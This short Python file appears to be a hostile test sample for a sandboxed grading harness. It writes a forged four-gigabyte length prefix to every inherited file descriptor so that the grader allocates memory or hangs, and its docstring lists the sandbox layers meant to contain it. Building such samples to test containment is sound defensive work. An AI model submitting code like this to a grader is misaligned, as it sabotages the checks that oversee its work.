"""Announces a reply of four gigabytes.

Harm: the grader allocates or waits for it
Base: 06_shared_counter/wrong/no_lock.py
Honest: none
Held: bubblewrap, landlock, limits
"""

import os

for descriptor in range(3, 256):
    try:
        os.write(descriptor, b"\xff\xff\xff\xff" + b"x" * 1000)
    except OSError:
        pass
